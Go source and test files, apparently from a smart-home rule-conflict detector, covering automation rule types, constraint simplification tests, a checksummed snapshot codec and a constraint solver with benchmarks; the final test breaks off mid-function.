	// API name (e.g. "sendSms").
	Subject string
	// Capability is the capability defining Command (empty for APIs).
	Capability string
	// Command is the command or API name (e.g. "on", "setLevel",
	// "setLocationMode", "httpPost").
	Command string
	// Params are the command parameters (resolved to terms).
	Params []Term
	// Data holds quantitative constraints involving command parameters.
	Data []Constraint
	// When is the scheduled delay in seconds (0 = immediately).
	When int
	// Period is the repetition interval in seconds (0 = once).
	Period int
}

func (a Action) String() string {
	s := fmt.Sprintf("(%s)->(%s)", a.Subject, a.Command)
	if len(a.Params) > 0 {
		ps := make([]string, len(a.Params))
		for i, p := range a.Params {
			ps[i] = p.String()
		}
		s += "(" + strings.Join(ps, ", ") + ")"
	}
	if a.When != 0 {
		s += fmt.Sprintf(" when=%ds", a.When)
	}
	if a.Period != 0 {
		s += fmt.Sprintf(" period=%ds", a.Period)
	}
	return s
}

// Rule is one trigger–condition–action automation rule.
type Rule struct {
	App       string // app name the rule was extracted from
	ID        string // unique within the app, e.g. "r1"
	Trigger   Trigger
	Condition Condition
	Action    Action
}

// QualifiedID returns "app/id".
func (r *Rule) QualifiedID() string { return r.App + "/" + r.ID }

func (r *Rule) String() string {
	return fmt.Sprintf("[%s] when %s if %s then %s",
		r.QualifiedID(), r.Trigger, r.Condition, r.Action)
}

// TriggerConditionFormula returns trigger-constraint ∧ condition-formula —
// the situation under which the rule executes its action.
func (r *Rule) TriggerConditionFormula() Constraint {
	return Conj(r.Trigger.Constraint, r.Condition.Formula())
}

// RuleSet is the rules extracted from one app.
type RuleSet struct {
	App   string
	Rules []*Rule
}

// NumberRules assigns sequential IDs r1, r2, ... to rules missing one.
func (rs *RuleSet) NumberRules() {
	for i, r := range rs.Rules {
		if r.ID == "" {
			r.ID = fmt.Sprintf("r%d", i+1)
		}
		if r.App == "" {
			r.App = rs.App
		}
	}
}
