package rule

import (
	"encoding/json"
	"math/rand"
	"reflect"
	"testing"
	"testing/quick"
)

func devVar(name string) Var { return Var{Name: name, Kind: VarDeviceAttr, Type: TypeString} }
func numVar(name string) Var { return Var{Name: name, Kind: VarDeviceAttr, Type: TypeInt} }
func inpVar(name string) Var { return Var{Name: name, Kind: VarUserInput, Type: TypeInt} }

func TestConjFlattening(t *testing.T) {
	a := Cmp{Op: OpEq, L: devVar("tv1.switch"), R: StrVal("on")}
	b := Cmp{Op: OpGt, L: numVar("tSensor.temperature"), R: IntVal(30)}
	c := Conj(a, Conj(b, TrueC))
	and, ok := c.(And)
	if !ok {
		t.Fatalf("Conj = %T, want And", c)
	}
	if len(and.Cs) != 2 {
		t.Fatalf("flattened conjuncts = %d, want 2", len(and.Cs))
	}
}

func TestConjShortcuts(t *testing.T) {
	a := Cmp{Op: OpEq, L: devVar("x"), R: StrVal("on")}
	if got := Conj(); got != TrueC {
		t.Errorf("empty Conj = %v", got)
	}
	if got := Conj(a); !reflect.DeepEqual(got, a) {
		t.Errorf("single Conj = %v", got)
	}
	if got := Conj(a, FalseC); got != FalseC {
		t.Errorf("Conj with false = %v", got)
	}
	if got := Disj(); got != FalseC {
		t.Errorf("empty Disj = %v", got)
	}
	if got := Disj(a, TrueC); got != TrueC {
		t.Errorf("Disj with true = %v", got)
	}
}

func TestNegateCmp(t *testing.T) {
	tests := []struct{ in, want CmpOp }{
		{OpEq, OpNe}, {OpNe, OpEq}, {OpLt, OpGe}, {OpGe, OpLt}, {OpGt, OpLe}, {OpLe, OpGt},
	}
	for _, tt := range tests {
		c := Cmp{Op: tt.in, L: numVar("a"), R: IntVal(1)}
		n, ok := Negate(c).(Cmp)
		if !ok || n.Op != tt.want {
			t.Errorf("Negate(%s) = %v, want op %s", tt.in, Negate(c), tt.want)
		}
	}
}

func TestNegateDeMorgan(t *testing.T) {
	a := Cmp{Op: OpEq, L: devVar("x"), R: StrVal("on")}
	b := Cmp{Op: OpGt, L: numVar("y"), R: IntVal(5)}
	n := Negate(And{Cs: []Constraint{a, b}})
	or, ok := n.(Or)
	if !ok || len(or.Cs) != 2 {
		t.Fatalf("Negate(And) = %v", n)
	}
	n2 := Negate(Or{Cs: []Constraint{a, b}})
	and, ok := n2.(And)
	if !ok || len(and.Cs) != 2 {
		t.Fatalf("Negate(Or) = %v", n2)
	}
}

func TestNegateInvolutionProperty(t *testing.T) {
	ops := []CmpOp{OpEq, OpNe, OpLt, OpLe, OpGt, OpGe}
	f := func(opIdx uint8, k int64) bool {
		op := ops[int(opIdx)%len(ops)]
		c := Cmp{Op: op, L: numVar("v"), R: IntVal(k)}
		nn := Negate(Negate(c))
		return reflect.DeepEqual(nn, Constraint(c))
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

func TestOpFlip(t *testing.T) {
	if OpLt.Flip() != OpGt || OpGe.Flip() != OpLe || OpEq.Flip() != OpEq {
		t.Error("Flip is wrong")
	}
}

func TestVarsCollection(t *testing.T) {
	c := Conj(
		Cmp{Op: OpEq, L: devVar("tv1.switch"), R: StrVal("on")},
		Or{Cs: []Constraint{
			Cmp{Op: OpGt, L: numVar("t"), R: inpVar("threshold1")},
			Not{C: Cmp{Op: OpEq, L: devVar("window1.switch"), R: StrVal("off")}},
		}},
	)
	got := Vars(c)
	want := []string{"t", "threshold1", "tv1.switch", "window1.switch"}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("Vars = %v, want %v", got, want)
	}
}

func TestSubstituteChain(t *testing.T) {
	// t = tSensor.temperature; predicate t > threshold1.
	pred := Cmp{Op: OpGt, L: Var{Name: "t", Kind: VarLocal, Type: TypeInt}, R: inpVar("threshold1")}
	bind := map[string]Term{
		"t": numVar("tSensor.temperature"),
	}
	got := Substitute(pred, bind)
	cmp, ok := got.(Cmp)
	if !ok {
		t.Fatalf("Substitute = %T", got)
	}
	if v, ok := cmp.L.(Var); !ok || v.Name != "tSensor.temperature" {
		t.Errorf("L = %v", cmp.L)
	}
}

func TestSubstituteTransitive(t *testing.T) {
	// a = b; b = 5; pred: a > 3 should become 5 > 3.
	pred := Cmp{Op: OpGt, L: Var{Name: "a", Kind: VarLocal, Type: TypeInt}, R: IntVal(3)}
	bind := map[string]Term{
		"a": Var{Name: "b", Kind: VarLocal, Type: TypeInt},
		"b": IntVal(5),
	}
	got := Substitute(pred, bind).(Cmp)
	if v, ok := got.L.(IntVal); !ok || v != 5 {
		t.Errorf("L = %v, want 5", got.L)
	}
}

func TestConditionFormula(t *testing.T) {
	cond := Condition{
		Data: []DataConstraint{
			{Var: "t", Term: numVar("tSensor.temperature")},
		},
		Predicates: []Constraint{
			Cmp{Op: OpGt, L: Var{Name: "t", Kind: VarLocal, Type: TypeInt}, R: inpVar("threshold1")},
			Cmp{Op: OpEq, L: devVar("window1.switch"), R: StrVal("off")},
		},
	}
	f := cond.Formula()
	vars := Vars(f)
	for _, v := range vars {
		if v == "t" {
			t.Errorf("local var t should have been substituted away: %v", vars)
		}
	}
}

func TestRuleString(t *testing.T) {
	r := comfortTVRule()
	s := r.String()
	if s == "" {
		t.Fatal("empty String()")
	}
	for _, frag := range []string{"ComfortTV", "tv1", "switch", "window1", "on"} {
		if !containsStr(s, frag) {
			t.Errorf("String() missing %q: %s", frag, s)
		}
	}
}

func containsStr(s, sub string) bool {
	return len(s) >= len(sub) && (s == sub || len(s) > 0 && indexOf(s, sub) >= 0)
}

func indexOf(s, sub string) int {
	for i := 0; i+len(sub) <= len(s); i++ {
		if s[i:i+len(sub)] == sub {
			return i
		}
	}
	return -1
}

func comfortTVRule() *Rule {
	return &Rule{
		App: "ComfortTV",
		ID:  "r1",
		Trigger: Trigger{
			Subject:    "tv1",
			Attribute:  "switch",
			Capability: "switch",
			Constraint: Cmp{Op: OpEq, L: devVar("tv1.switch"), R: StrVal("on")},
		},
		Condition: Condition{
			Data: []DataConstraint{
				{Var: "t", Term: numVar("tSensor.temperature")},
			},
			Predicates: []Constraint{
				Cmp{Op: OpGt, L: Var{Name: "t", Kind: VarLocal, Type: TypeInt}, R: inpVar("threshold1")},
				Cmp{Op: OpEq, L: devVar("window1.switch"), R: StrVal("off")},
			},
		},
		Action: Action{
			Subject:    "window1",
			Capability: "switch",
			Command:    "on",
		},
	}
}

func TestRuleJSONRoundTrip(t *testing.T) {
	r := comfortTVRule()
	r.Action.When = 300
	r.Action.Period = 60
	r.Action.Params = []Term{IntVal(50), StrVal("warm"), Sum{X: inpVar("threshold1"), K: -5}}
	b, err := json.Marshal(r)
	if err != nil {
		t.Fatalf("marshal: %v", err)
	}
	var got Rule
	if err := json.Unmarshal(b, &got); err != nil {
		t.Fatalf("unmarshal: %v", err)
	}
	if !reflect.DeepEqual(&got, r) {
		t.Errorf("round trip mismatch:\n got %+v\nwant %+v", &got, r)
	}
}

func TestRuleSetJSONRoundTrip(t *testing.T) {
	rs := &RuleSet{App: "ComfortTV", Rules: []*Rule{comfortTVRule()}}
	b, err := MarshalRuleSet(rs)
	if err != nil {
		t.Fatalf("marshal: %v", err)
	}
	got, err := UnmarshalRuleSet(b)
	if err != nil {
		t.Fatalf("unmarshal: %v", err)
	}
	if !reflect.DeepEqual(got, rs) {
		t.Errorf("round trip mismatch")
	}
}

func TestConstraintJSONRoundTripProperty(t *testing.T) {
	rng := rand.New(rand.NewSource(42))
	for i := 0; i < 200; i++ {
		c := randomConstraint(rng, 3)
		r := &Rule{App: "a", ID: "r", Trigger: Trigger{Subject: "d", Attribute: "switch", Constraint: c}}
		b, err := json.Marshal(r)
		if err != nil {
			t.Fatalf("marshal %v: %v", c, err)
		}
		var got Rule
		if err := json.Unmarshal(b, &got); err != nil {
			t.Fatalf("unmarshal: %v", err)
		}
		if !reflect.DeepEqual(got.Trigger.Constraint, c) {
			t.Fatalf("round trip mismatch:\n got %v\nwant %v", got.Trigger.Constraint, c)
		}
	}
}

func randomConstraint(rng *rand.Rand, depth int) Constraint {
	ops := []CmpOp{OpEq, OpNe, OpLt, OpLe, OpGt, OpGe}
	atom := func() Constraint {
		return Cmp{
			Op: ops[rng.Intn(len(ops))],
			L:  Var{Name: string(rune('a' + rng.Intn(4))), Kind: VarDeviceAttr, Type: TypeInt},
			R:  IntVal(rng.Int63n(100)),
		}
	}
	if depth == 0 {
		return atom()
	}
	switch rng.Intn(5) {
	case 0:
		return And{Cs: []Constraint{randomConstraint(rng, depth-1), randomConstraint(rng, depth-1)}}
	case 1:
		return Or{Cs: []Constraint{randomConstraint(rng, depth-1), randomConstraint(rng, depth-1)}}
	case 2:
		return Not{C: randomConstraint(rng, depth-1)}
	case 3:
		return Lit(rng.Intn(2) == 0)
	default:
		return atom()
	}
}

func TestTriggerHelpers(t *testing.T) {
	tr := Trigger{Subject: "tv1", Attribute: "switch"}
	if !tr.AnyChange() {
		t.Error("nil constraint should be AnyChange")
	}
	if tr.EventVar() != "tv1.switch" {
		t.Errorf("EventVar = %q", tr.EventVar())
	}
}

func TestNumberRules(t *testing.T) {
	rs := &RuleSet{App: "X", Rules: []*Rule{{}, {}, {ID: "keep"}}}
	rs.NumberRules()
	if rs.Rules[0].ID != "r1" || rs.Rules[1].ID != "r2" || rs.Rules[2].ID != "keep" {
		t.Errorf("ids = %q %q %q", rs.Rules[0].ID, rs.Rules[1].ID, rs.Rules[2].ID)
	}
	if rs.Rules[0].App != "X" {
		t.Errorf("app not filled in")
	}
}

func TestSumTermString(t *testing.T) {
	s1 := Sum{X: inpVar("th"), K: 5}
	s2 := Sum{X: inpVar("th"), K: -5}
	if s1.String() != "th + 5" || s2.String() != "th - 5" {
		t.Errorf("sum strings: %q %q", s1.String(), s2.String())
	}
}

func TestRenameVars(t *testing.T) {
	c := Cmp{Op: OpEq, L: devVar("tv1.switch"), R: StrVal("on")}
	got := RenameVars(c, func(v Var) Var {
		v.Name = "dev0." + v.Name
		return v
	})
	cmp := got.(Cmp)
	if cmp.L.(Var).Name != "dev0.tv1.switch" {
		t.Errorf("renamed = %v", cmp.L)
	}
}
