// Package snapcodec is the shared binary framing for persistent
// warm-start snapshots: a magic+version header, a stream of
// length-prefixed records, and a SHA-256 checksum trailer covering every
// byte written before it. The extraction cache and the pair-verdict cache
// both persist through it (each with its own magic and record payloads),
// and homeguardd concatenates their sections into one snapshot file —
// the codec never reads past its own trailer, so sections compose on a
// plain io.Reader.
//
// Layout:
//
//	magic   [8]byte  // per-cache identity, e.g. "HGXCSNP\x00"
//	version uint32   // big-endian format version
//	records           // repeated: length uint32 | payload bytes
//	end     uint32   // sentinel length 0xFFFFFFFF
//	sum     [32]byte // SHA-256 of everything above
//
// Restore fails with ErrVersion on a known magic but unknown version and
// with ErrCorrupt on a bad magic, a truncated stream, an oversized record
// or a checksum mismatch — a daemon booting from a damaged snapshot gets
// a clean typed error and starts cold instead of loading garbage.
package snapcodec

import (
	"crypto/sha256"
	"encoding/binary"
	"errors"
	"fmt"
	"hash"
	"io"
)

// ErrVersion reports a snapshot written by an incompatible format
// version.
var ErrVersion = errors.New("snapcodec: unsupported snapshot version")

// ErrCorrupt reports a snapshot that fails structural or checksum
// validation.
var ErrCorrupt = errors.New("snapcodec: corrupt snapshot")

// MaxRecordBytes bounds one record (64 MiB): a length prefix beyond it is
// treated as corruption rather than honored as an allocation request.
const MaxRecordBytes = 64 << 20

const magicLen = 8

// endSentinel terminates the record stream (no record length is ever
// 0xFFFFFFFF — MaxRecordBytes is far below it).
const endSentinel = ^uint32(0)

// Writer emits one snapshot section. Records are hashed as written; Close
// writes the sentinel and the checksum trailer. The Writer does not
// buffer — hand it a *bufio.Writer (and flush it) for small-record
// workloads.
type Writer struct {
	w   io.Writer
	h   hash.Hash
	err error
}

// NewWriter writes the section header and returns the record writer.
// magic must be exactly 8 bytes.
func NewWriter(w io.Writer, magic string, version uint32) (*Writer, error) {
	if len(magic) != magicLen {
		return nil, fmt.Errorf("snapcodec: magic %q must be %d bytes", magic, magicLen)
	}
	sw := &Writer{w: w, h: sha256.New()}
	var hdr [magicLen + 4]byte
	copy(hdr[:], magic)
	binary.BigEndian.PutUint32(hdr[magicLen:], version)
	sw.write(hdr[:])
	return sw, sw.err
}

// Record appends one length-prefixed record.
func (sw *Writer) Record(b []byte) error {
	if sw.err != nil {
		return sw.err
	}
	if len(b) > MaxRecordBytes {
		sw.err = fmt.Errorf("snapcodec: record of %d bytes exceeds the %d-byte bound", len(b), MaxRecordBytes)
		return sw.err
	}
	var n [4]byte
	binary.BigEndian.PutUint32(n[:], uint32(len(b)))
	sw.write(n[:])
	sw.write(b)
	return sw.err
}

// Close writes the end sentinel and the checksum trailer. It does not
// close the underlying writer.
func (sw *Writer) Close() error {
	if sw.err != nil {
		return sw.err
	}
	var n [4]byte
	binary.BigEndian.PutUint32(n[:], endSentinel)
	sw.write(n[:])
	if sw.err == nil {
		if _, err := sw.w.Write(sw.h.Sum(nil)); err != nil {
			sw.err = err
		}
	}
	return sw.err
}

func (sw *Writer) write(b []byte) {
	if sw.err != nil {
		return
	}
	if _, err := sw.w.Write(b); err != nil {
		sw.err = err
		return
	}
	sw.h.Write(b)
}

// Peeker is the subset of *bufio.Reader PeekMagic needs.
type Peeker interface {
	Peek(n int) ([]byte, error)
}

// PeekMagic returns the 8-byte section magic at the reader's current
// position without consuming it, so a multi-section snapshot loader can
// dispatch on what the file actually starts with (e.g. a checkpoint's
// meta section vs. a legacy cache-only snapshot). A stream shorter than a
// magic fails with ErrCorrupt.
func PeekMagic(r Peeker) (string, error) {
	b, err := r.Peek(magicLen)
	if err != nil {
		return "", fmt.Errorf("%w: short magic: %v", ErrCorrupt, err)
	}
	return string(b), nil
}

// Reader consumes one snapshot section written by Writer.
type Reader struct {
	r io.Reader
	h hash.Hash
}

// NewReader validates the section header. A wrong magic fails with
// ErrCorrupt (the stream is not this section type at all); a right magic
// with a different version fails with ErrVersion.
func NewReader(r io.Reader, magic string, version uint32) (*Reader, error) {
	if len(magic) != magicLen {
		return nil, fmt.Errorf("snapcodec: magic %q must be %d bytes", magic, magicLen)
	}
	sr := &Reader{r: r, h: sha256.New()}
	var hdr [magicLen + 4]byte
	if _, err := io.ReadFull(r, hdr[:]); err != nil {
		return nil, fmt.Errorf("%w: short header: %v", ErrCorrupt, err)
	}
	sr.h.Write(hdr[:])
	if string(hdr[:magicLen]) != magic {
		return nil, fmt.Errorf("%w: magic %q, want %q", ErrCorrupt, hdr[:magicLen], magic)
	}
	if got := binary.BigEndian.Uint32(hdr[magicLen:]); got != version {
		return nil, fmt.Errorf("%w: version %d, reader supports %d", ErrVersion, got, version)
	}
	return sr, nil
}

// Next returns the next record, or io.EOF after the last record once the
// checksum trailer verified. Any structural damage — truncation, an
// oversized length, a checksum mismatch — fails with ErrCorrupt.
func (sr *Reader) Next() ([]byte, error) {
	var n [4]byte
	if _, err := io.ReadFull(sr.r, n[:]); err != nil {
		return nil, fmt.Errorf("%w: short record length: %v", ErrCorrupt, err)
	}
	ln := binary.BigEndian.Uint32(n[:])
	if ln == endSentinel {
		sr.h.Write(n[:])
		want := sr.h.Sum(nil)
		got := make([]byte, sha256.Size)
		if _, err := io.ReadFull(sr.r, got); err != nil {
			return nil, fmt.Errorf("%w: short checksum: %v", ErrCorrupt, err)
		}
		for i := range want {
			if want[i] != got[i] {
				return nil, fmt.Errorf("%w: checksum mismatch", ErrCorrupt)
			}
		}
		return nil, io.EOF
	}
	if ln > MaxRecordBytes {
		return nil, fmt.Errorf("%w: record length %d exceeds the %d-byte bound", ErrCorrupt, ln, MaxRecordBytes)
	}
	sr.h.Write(n[:])
	b := make([]byte, ln)
	if _, err := io.ReadFull(sr.r, b); err != nil {
		return nil, fmt.Errorf("%w: short record: %v", ErrCorrupt, err)
	}
	sr.h.Write(b)
	return b, nil
}
