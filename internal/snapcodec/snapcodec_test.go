package snapcodec

import (
	"bytes"
	"errors"
	"io"
	"testing"
)

// TestSectionsCompose pins the property homeguardd's snapshot file relies
// on: two sections written back-to-back on one stream restore back-to-back
// from one reader — each reader consumes exactly its own trailer and not
// a byte more.
func TestSectionsCompose(t *testing.T) {
	var buf bytes.Buffer
	w1, err := NewWriter(&buf, "SECTONE\x00", 1)
	if err != nil {
		t.Fatal(err)
	}
	w1.Record([]byte("alpha"))
	w1.Record([]byte("beta"))
	if err := w1.Close(); err != nil {
		t.Fatal(err)
	}
	w2, err := NewWriter(&buf, "SECTTWO\x00", 7)
	if err != nil {
		t.Fatal(err)
	}
	w2.Record([]byte("gamma"))
	if err := w2.Close(); err != nil {
		t.Fatal(err)
	}

	r := bytes.NewReader(buf.Bytes())
	r1, err := NewReader(r, "SECTONE\x00", 1)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for {
		rec, err := r1.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		got = append(got, string(rec))
	}
	if len(got) != 2 || got[0] != "alpha" || got[1] != "beta" {
		t.Fatalf("section one records = %q", got)
	}
	r2, err := NewReader(r, "SECTTWO\x00", 7)
	if err != nil {
		t.Fatalf("section two header after section one trailer: %v", err)
	}
	rec, err := r2.Next()
	if err != nil || string(rec) != "gamma" {
		t.Fatalf("section two record = %q, %v", rec, err)
	}
	if _, err := r2.Next(); err != io.EOF {
		t.Fatalf("section two end: %v, want io.EOF", err)
	}
	if r.Len() != 0 {
		t.Fatalf("%d unread bytes after both sections", r.Len())
	}
}

// TestEmptySection: zero records round-trip (a fleet may snapshot before
// any traffic).
func TestEmptySection(t *testing.T) {
	var buf bytes.Buffer
	w, _ := NewWriter(&buf, "EMPTYSEC", 3)
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	r, err := NewReader(bytes.NewReader(buf.Bytes()), "EMPTYSEC", 3)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := r.Next(); err != io.EOF {
		t.Fatalf("empty section: %v, want io.EOF", err)
	}
}

// TestOversizedRecordRejected: a length prefix beyond the bound is
// corruption, not an allocation request.
func TestOversizedRecordRejected(t *testing.T) {
	var buf bytes.Buffer
	w, _ := NewWriter(&buf, "BOUNDSEC", 1)
	w.Record([]byte("ok"))
	w.Close()
	raw := buf.Bytes()
	// The first record's length prefix starts right after the 12-byte
	// header; rewrite it to a huge value.
	raw[12], raw[13], raw[14], raw[15] = 0xFE, 0xFF, 0xFF, 0xFF
	r, err := NewReader(bytes.NewReader(raw), "BOUNDSEC", 1)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := r.Next(); !errors.Is(err, ErrCorrupt) {
		t.Fatalf("oversized record: %v, want ErrCorrupt", err)
	}
}
