package solver

import (
	"testing"

	"homeguard/internal/rule"
)

// benchOverlapProblem builds the Fig. 3 overlap query — the exact shape
// the detector solves per candidate pair.
func benchOverlapProblem() *Problem {
	p := NewProblem()
	p.AddEnumVar("dev-tv.switch", []string{"on", "off"})
	p.AddIntVar("dev-temp.temperature", -40, 150)
	p.AddEnumVar("weather", []string{"sunny", "rainy", "cloudy"})
	p.AddEnumVar("dev-window.switch", []string{"on", "off"})
	p.AddConstraint(rule.Cmp{Op: rule.OpEq,
		L: rule.Var{Name: "dev-tv.switch", Type: rule.TypeString}, R: rule.StrVal("on")})
	p.AddConstraint(rule.Cmp{Op: rule.OpGt,
		L: rule.Var{Name: "dev-temp.temperature", Type: rule.TypeInt}, R: rule.IntVal(30)})
	p.AddConstraint(rule.Cmp{Op: rule.OpEq,
		L: rule.Var{Name: "dev-window.switch", Type: rule.TypeString}, R: rule.StrVal("off")})
	p.AddConstraint(rule.Cmp{Op: rule.OpEq,
		L: rule.Var{Name: "weather", Type: rule.TypeString}, R: rule.StrVal("rainy")})
	return p
}

func BenchmarkSolveOverlapSAT(b *testing.B) {
	for i := 0; i < b.N; i++ {
		p := benchOverlapProblem()
		_, sat, err := p.Solve()
		if err != nil || !sat {
			b.Fatal("expected SAT")
		}
	}
}

func BenchmarkSolveUNSAT(b *testing.B) {
	for i := 0; i < b.N; i++ {
		p := NewProblem()
		p.AddIntVar("x", 0, 100000)
		p.AddIntVar("y", 0, 100000)
		p.AddConstraint(rule.Cmp{Op: rule.OpLt,
			L: rule.Var{Name: "x", Type: rule.TypeInt},
			R: rule.Var{Name: "y", Type: rule.TypeInt}})
		p.AddConstraint(rule.Cmp{Op: rule.OpLt,
			L: rule.Var{Name: "y", Type: rule.TypeInt},
			R: rule.Var{Name: "x", Type: rule.TypeInt}})
		_, sat, err := p.Solve()
		if err != nil || sat {
			b.Fatal("expected UNSAT")
		}
	}
}

func BenchmarkSolveDisjunctive(b *testing.B) {
	for i := 0; i < b.N; i++ {
		p := NewProblem()
		p.AddIntVar("x", 0, 1000)
		p.AddConstraint(rule.Or{Cs: []rule.Constraint{
			rule.Cmp{Op: rule.OpLt, L: rule.Var{Name: "x", Type: rule.TypeInt}, R: rule.IntVal(10)},
			rule.Cmp{Op: rule.OpGt, L: rule.Var{Name: "x", Type: rule.TypeInt}, R: rule.IntVal(990)},
		}})
		p.AddConstraint(rule.Cmp{Op: rule.OpGt,
			L: rule.Var{Name: "x", Type: rule.TypeInt}, R: rule.IntVal(5)})
		if _, sat, err := p.Solve(); err != nil || !sat {
			b.Fatal("expected SAT")
		}
	}
}
