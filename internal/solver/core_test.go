package solver

import (
	"errors"
	"reflect"
	"testing"

	"homeguard/internal/rule"
)

func intVar(name string) rule.Var {
	return rule.Var{Name: name, Kind: rule.VarDeviceAttr, Type: rule.TypeInt}
}

func strVar(name string) rule.Var {
	return rule.Var{Name: name, Kind: rule.VarDeviceAttr, Type: rule.TypeString}
}

// TestSolveTwiceDeterministic pins the lastSolution ownership contract:
// Solve rebuilds its root store from the declared domains on every call
// and recycles the captured solution store before returning, so repeated
// Solve calls on one Problem are independent and deterministic. (This
// resolves the old in-line doubt about whether the search mutated the
// root store on the success path: it narrows only per-call stores.)
func TestSolveTwiceDeterministic(t *testing.T) {
	build := func() *Problem {
		p := NewProblem()
		p.AddIntVar("x", 0, 1000)
		p.AddIntVar("y", 0, 1000)
		p.AddEnumVar("mode", []string{"Home", "Away", "Night"})
		// A disjunction plus binary atoms forces branching and labeling —
		// the paths that clone and recycle stores.
		p.AddConstraint(rule.Or{Cs: []rule.Constraint{
			rule.Cmp{Op: rule.OpLt, L: intVar("x"), R: rule.IntVal(10)},
			rule.Cmp{Op: rule.OpGt, L: intVar("x"), R: rule.IntVal(990)},
		}})
		p.AddConstraint(rule.Cmp{Op: rule.OpLt, L: intVar("x"), R: intVar("y")})
		p.AddConstraint(rule.Cmp{Op: rule.OpNe, L: strVar("mode"), R: rule.StrVal("Home")})
		return p
	}
	p := build()
	m1, sat1, err1 := p.Solve()
	m2, sat2, err2 := p.Solve()
	if err1 != nil || err2 != nil {
		t.Fatalf("errors: %v, %v", err1, err2)
	}
	if !sat1 || !sat2 {
		t.Fatalf("sat flipped across calls: %v, %v", sat1, sat2)
	}
	if !reflect.DeepEqual(m1, m2) {
		t.Fatalf("models differ across Solve calls on one Problem:\n  first:  %v\n  second: %v", m1, m2)
	}
	// And a fresh problem built identically agrees too.
	m3, _, _ := build().Solve()
	if !reflect.DeepEqual(m1, m3) {
		t.Fatalf("models differ across identically built problems:\n  %v\n  %v", m1, m3)
	}
}

// TestEnumNeqPairs covers != between enum variables on the slice-backed
// core: satisfiable while either side has an alternative value, and
// refuted when both collapse to the same single shared name.
func TestEnumNeqPairs(t *testing.T) {
	p := NewProblem()
	p.AddEnumVar("a", []string{"on", "off"})
	p.AddEnumVar("b", []string{"on", "off"})
	p.AddConstraint(rule.Cmp{Op: rule.OpNe, L: strVar("a"), R: strVar("b")})
	m, sat, err := p.Solve()
	if err != nil || !sat {
		t.Fatalf("a != b over {on,off}: want SAT, got sat=%v err=%v", sat, err)
	}
	if m["a"].Enum == m["b"].Enum {
		t.Fatalf("witness violates a != b: %v", m)
	}

	// Pin both to "on" via unary constraints: now a != b is refutable.
	p2 := NewProblem()
	p2.AddEnumVar("a", []string{"on", "off"})
	p2.AddEnumVar("b", []string{"on", "off"})
	p2.AddConstraint(rule.Cmp{Op: rule.OpNe, L: strVar("a"), R: strVar("b")})
	p2.AddConstraint(rule.Cmp{Op: rule.OpEq, L: strVar("a"), R: rule.StrVal("on")})
	p2.AddConstraint(rule.Cmp{Op: rule.OpEq, L: strVar("b"), R: rule.StrVal("on")})
	if _, sat, err := p2.Solve(); err != nil || sat {
		t.Fatalf("a != b with both pinned to on: want UNSAT, got sat=%v err=%v", sat, err)
	}

	// Disjoint value sets: != always holds, == never does.
	p3 := NewProblem()
	p3.AddEnumVar("a", []string{"open", "closed"})
	p3.AddEnumVar("b", []string{"locked", "unlocked"})
	p3.AddConstraint(rule.Cmp{Op: rule.OpNe, L: strVar("a"), R: strVar("b")})
	if _, sat, err := p3.Solve(); err != nil || !sat {
		t.Fatalf("disjoint-enum !=: want SAT, got sat=%v err=%v", sat, err)
	}
	p4 := NewProblem()
	p4.AddEnumVar("a", []string{"open", "closed"})
	p4.AddEnumVar("b", []string{"locked", "unlocked"})
	p4.AddConstraint(rule.Cmp{Op: rule.OpEq, L: strVar("a"), R: strVar("b")})
	if _, sat, err := p4.Solve(); err != nil || sat {
		t.Fatalf("disjoint-enum ==: want UNSAT, got sat=%v err=%v", sat, err)
	}
}

// TestOffsetAtDomainBounds covers x == y + k (the shifted-domain
// propagation) exactly at and just past the domain edges.
func TestOffsetAtDomainBounds(t *testing.T) {
	eq := func(k int64) (Model, bool, error) {
		p := NewProblem()
		p.AddIntVar("x", 0, 10)
		p.AddIntVar("y", 0, 10)
		p.AddConstraint(rule.Cmp{Op: rule.OpEq,
			L: intVar("x"), R: rule.Sum{X: intVar("y"), K: k}})
		return p.Solve()
	}
	// k = 10 squeezes to the single point x=10, y=0.
	m, sat, err := eq(10)
	if err != nil || !sat {
		t.Fatalf("x == y + 10: want SAT, got sat=%v err=%v", sat, err)
	}
	if m["x"].Int != 10 || m["y"].Int != 0 {
		t.Fatalf("x == y + 10 witness: want x=10 y=0, got %v", m)
	}
	// k = -10 squeezes to x=0, y=10.
	m, sat, err = eq(-10)
	if err != nil || !sat {
		t.Fatalf("x == y - 10: want SAT, got sat=%v err=%v", sat, err)
	}
	if m["x"].Int != 0 || m["y"].Int != 10 {
		t.Fatalf("x == y - 10 witness: want x=0 y=10, got %v", m)
	}
	// One past the edge in either direction is unsatisfiable.
	if _, sat, err := eq(11); err != nil || sat {
		t.Fatalf("x == y + 11: want UNSAT, got sat=%v err=%v", sat, err)
	}
	if _, sat, err := eq(-11); err != nil || sat {
		t.Fatalf("x == y - 11: want UNSAT, got sat=%v err=%v", sat, err)
	}
}

// TestConstantFolding covers the AddConstraint pre-pass: trivially false
// conjuncts skip the search entirely, true ones vanish, and folding
// composes through And/Or/Not.
func TestConstantFolding(t *testing.T) {
	p := NewProblem()
	p.AddIntVar("x", 0, 10)
	p.AddConstraint(rule.Cmp{Op: rule.OpGt, L: rule.IntVal(3), R: rule.IntVal(7)})
	if _, sat, err := p.Solve(); err != nil || sat {
		t.Fatalf("3 > 7: want UNSAT without search, got sat=%v err=%v", sat, err)
	}

	p2 := NewProblem()
	p2.AddIntVar("x", 0, 10)
	p2.AddConstraint(rule.And{Cs: []rule.Constraint{
		rule.Cmp{Op: rule.OpLt, L: rule.IntVal(3), R: rule.IntVal(7)}, // folds away
		rule.Cmp{Op: rule.OpEq, L: intVar("x"), R: rule.IntVal(4)},
	}})
	m, sat, err := p2.Solve()
	if err != nil || !sat || m["x"].Int != 4 {
		t.Fatalf("folded conjunction: want x=4, got sat=%v m=%v err=%v", sat, m, err)
	}

	p3 := NewProblem()
	p3.AddIntVar("x", 0, 10)
	p3.AddConstraint(rule.Or{Cs: []rule.Constraint{
		rule.Cmp{Op: rule.OpEq, L: rule.StrVal("a"), R: rule.StrVal("b")}, // folds false
		rule.Cmp{Op: rule.OpEq, L: intVar("x"), R: rule.IntVal(9)},
	}})
	m, sat, err = p3.Solve()
